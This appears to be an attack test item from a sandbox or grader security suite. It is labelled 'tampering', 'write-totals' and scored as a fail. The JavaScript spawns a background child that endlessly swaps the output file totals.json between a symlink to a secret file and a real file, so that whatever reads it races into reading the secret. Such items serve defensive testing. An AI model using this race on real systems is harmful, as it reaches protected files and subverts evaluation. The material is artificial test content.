// attack: has a child turn its declared file into a link and back while it is read | family: tampering | item: write-totals | verdicts: fail | points: 0 | tiers: T1 T2
import { spawn } from 'node:child_process'
import { writeFileSync, writeSync } from 'node:fs'

const code = `
  const fs = require('node:fs')
  for (;;) {
    try {
      fs.symlinkSync('{{folder}}/secret', 'next'); fs.renameSync('next', 'totals.json')
      fs.writeFileSync('next', '{"sum":0}'); fs.renameSync('next', 'totals.json')
    } catch {}
  } // {{mark}}`
export const writeTotals = async () => {
  writeFileSync('totals.json', '{"sum":0}')
  spawn(process.execPath, ['-e', code], { stdio: 'ignore' })
  await new Promise((resolve) => setTimeout(resolve, 150))
  writeSync(1, 'tried')
}
